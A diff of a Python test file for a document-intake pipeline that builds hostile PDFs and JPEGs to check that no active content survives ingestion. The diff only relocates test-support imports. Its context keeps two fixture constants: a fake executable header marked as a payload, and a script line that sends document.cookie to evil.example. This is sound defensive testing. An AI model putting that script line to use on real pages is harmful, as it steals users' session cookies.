@@ -1,7 +1,7 @@
 """Nothing active leaves: hostile born-digital PDFs and JPEGs through the real pipeline.
 
 Every hostile file is built here, run through ``ingest`` (real PDFium, pikepdf, Tesseract) and
-the output is audited object by object (``tests/pdfaudit.py``).
+the output is audited object by object (``tests/support/pdfaudit.py``).
 """
 
 from __future__ import annotations
@@ -23,9 +23,9 @@ from briefkasten.config import Settings
 from briefkasten.model import DocumentRequest, DocumentResult, ReceivedFile, Submission
 from briefkasten.pipeline.jpeg import jpeg_layout
 from briefkasten.receipt import receipt_pdf
-from tests import factories
-from tests.pdfaudit import audit, jpeg_findings
-from tests.test_ingest import pdftotext
+from tests.integration.test_ingest import pdftotext
+from tests.support import factories
+from tests.support.pdfaudit import audit, jpeg_findings
 
 EXE = b"MZ\x90\x00\x03\x00EVIL-PAYLOAD-4711"
 SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
